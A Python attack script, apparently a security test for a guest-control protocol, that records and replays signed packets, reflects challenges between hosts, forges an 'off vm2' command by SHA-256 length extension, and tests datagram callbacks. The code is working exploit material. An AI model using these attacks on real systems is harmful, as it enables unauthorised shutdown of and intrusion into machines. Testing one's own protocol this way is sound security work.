# SPDX-License-Identifier: LGPL-2.1-or-later
"""What a stranger on the guests' network can do who has recorded packets but has no key. Every command prints one line.
Only `record` and `use` take the key: they play the guests that were listened to.

    attack.py record KEY_FILE ACTION TARGET [CALLBACK_ADDRESS PORT]     a signed packet, in hexadecimal
    attack.py use KEY_FILE HOST PORT PACKET                     the guest's whole conversation: the reply
    attack.py replay HOST PORT PACKET                           the packet again: how many bytes come back
    attack.py reflect VICTIM ORACLE PORT PACKET ORACLES_PACKET  let one host answer the other's challenge:
                                                                bytes of the oracle, and the victim's last word
    attack.py forge HOST PORT PACKET                            from any recorded packet, by length extension, one
                                                                that says off vm2; KEY_FILE of 32 bytes
    attack.py datagram TO PORT PACKET CALLBACK_PORT GOOD_PACKET GOOD_PORT
                                                                send PACKET to an address, and after it a good one to
                                                                the group: is the first one called back as well?"""

import os
import select
import socket
import struct
import sys

sys.path.insert(0, os.path.dirname(os.path.dirname(os.path.abspath(__file__))))
from harness import wire  # noqa: E402

ACTIONS = {'off': wire.OFF, 'status': wire.STATUS, 'list': wire.LIST}
GROUP = '225.0.0.12'
KEY_SIZE = 32


# --- SHA-256 from any state: what length extension needs and hashlib does not offer ---
def primes(n):
    found = []
    candidate = 2
    while len(found) < n:
        if all(candidate % p for p in found):
            found.append(candidate)
        candidate += 1
    return found


def root_bits(p, power):
    """The first 32 bits of the fraction of the root of a prime, exactly."""
    low, high = 0, p << 40
    target = p << (32 * power)
    while low < high:       # the largest integer whose power does not exceed p * 2^(32 power)
        middle = (low + high + 1) // 2
        if middle ** power <= target:
            low = middle
        else:
            high = middle - 1
    return low & 0xffffffff


ROUND = [root_bits(p, 3) for p in primes(64)]


def rotate(x, n):
    return (x >> n | x << (32 - n)) & 0xffffffff


def compress(state, block):
    w = list(struct.unpack('>16I', block))
    for i in range(16, 64):
        s0 = rotate(w[i - 15], 7) ^ rotate(w[i - 15], 18) ^ w[i - 15] >> 3
        s1 = rotate(w[i - 2], 17) ^ rotate(w[i - 2], 19) ^ w[i - 2] >> 10
        w.append((w[i - 16] + s0 + w[i - 7] + s1) & 0xffffffff)
    a, b, c, d, e, f, g, h = state
    for i in range(64):
        t1 = h + (rotate(e, 6) ^ rotate(e, 11) ^ rotate(e, 25)) + (e & f ^ ~e & g) + ROUND[i] + w[i]
        t2 = (rotate(a, 2) ^ rotate(a, 13) ^ rotate(a, 22)) + (a & b ^ a & c ^ b & c)
        h, g, f, e, d, c, b, a = g, f, e, (d + t1) & 0xffffffff, c, b, a, (t1 + t2) & 0xffffffff
    return [(x + y) & 0xffffffff for x, y in zip(state, (a, b, c, d, e, f, g, h))]


def padding(size):
    return b'\x80' + bytes(-(size + 9) % 64) + struct.pack('>Q', size * 8)


def extend(digest, hashed, suffix):
    """SHA-256 of (what gave digest, `hashed` bytes with their padding) and then suffix."""
    state = list(struct.unpack('>8I', digest))
    data = suffix + padding(hashed + len(suffix))
    for i in range(0, len(data), 64):
        state = compress(state, data[i:i + 64])
    return struct.pack('>8I', *state)


# --- attacks ---
def begin(host, port, packet, challenge):
    peer = wire.connect(host, int(port))
    try:
        peer.sendall(packet + challenge)
    except ConnectionError:
        pass        # hung up already: what can be read tells
    return peer


def record(key_file, action, target, address=None, port=None):
    with open(key_file, 'rb') as file:
        key = file.read()
    return wire.packet(key, ACTIONS[action], target, callback=(address, int(port)) if address else None).hex()


def use(key_file, host, port, packet):
    with open(key_file, 'rb') as file:
        key = file.read()
    with wire.connect(host, int(port)) as peer:
        peer.sendall(bytes.fromhex(packet))
        if not wire.handshake(peer, key):
            return 'hung up'
        reply = wire.read(peer, 1)
        return f'reply {reply[0]}' if reply else 'hung up'


def replay(host, port, packet):
    with begin(host, port, bytes.fromhex(packet), os.urandom(64)) as peer:
        return f'{len(wire.read(peer, 128))} bytes'


def reflect(victim, oracle, port, packet, oracles_packet):
    with begin(victim, port, bytes.fromhex(packet), os.urandom(64)) as first:
        challenge = wire.read(first, 128)[64:]
        if len(challenge) < 64:
            return 'the victim did not answer'
        with begin(oracle, port, bytes.fromhex(oracles_packet), challenge) as second:
            answer = wire.read(second, 128)
        try:
            first.sendall(answer[:64] or bytes(64))
        except ConnectionError:
            pass
        last = wire.read(first, 1)
        return f'oracle {len(answer)} bytes, victim {last.hex() or "nothing"}'


def forge(host, port, packet):
    prefix = struct.pack('<BBBB60s', wire.OFF, 2, 0, 0, b'vm2')     # the first 64 bytes of the packet wanted
    with begin(host, port, bytes.fromhex(packet), prefix) as peer:
        digest = wire.read(peer, 128)[:32]
    if len(digest) < 32:
        return 'refused'
    glue = padding(KEY_SIZE + len(prefix))
    suffix = bytes(2) + os.urandom(6) + os.urandom(4) + bytes(4)     # port, random, seqno, family
    mac = extend(digest, KEY_SIZE + len(prefix) + len(glue), suffix + bytes(64))
    return (prefix + glue + suffix + mac.ljust(64, b'\0')).hex()


def datagram(to, port, packet, callback_port, good, good_port):
    own = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    own.setsockopt(socket.IPPROTO_IP, socket.IP_MULTICAST_TTL, 2)
    bad, fine = (socket.create_server(('0.0.0.0', int(p))) for p in (callback_port, good_port))
    own.sendto(bytes.fromhex(packet), (to, int(port)))
    own.sendto(bytes.fromhex(good), (GROUP, int(port)))
    called = set()
    while fine not in called:       # the host takes datagrams in their order
        ready = select.select([bad, fine], [], [], 10)[0]
        if not ready:
            return 'the good one was not called back'
        for listener in ready:
            called.add(listener)
            listener.accept()[0].close()
    if bad not in called and select.select([bad], [], [], 1)[0]:
        called.add(bad)
    return 'called back' if bad in called else 'not called back'


def main():
    commands = {'record': record, 'use': use, 'replay': replay, 'reflect': reflect, 'forge': forge,
                'datagram': datagram}
    try:
        print(commands[sys.argv[1]](*sys.argv[2:]))
    except OSError as error:
        print(error)


if __name__ == '__main__':
    main()
